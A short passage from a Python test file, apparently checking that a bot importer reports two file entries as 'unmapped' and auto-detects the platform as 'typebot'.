    assert [entry.outcome for entry in found.report.entries if entry.kind == "files"] == [
        "unmapped"
    ] * 2
    assert import_bot("auto", tmp_path).report.platform == "typebot"
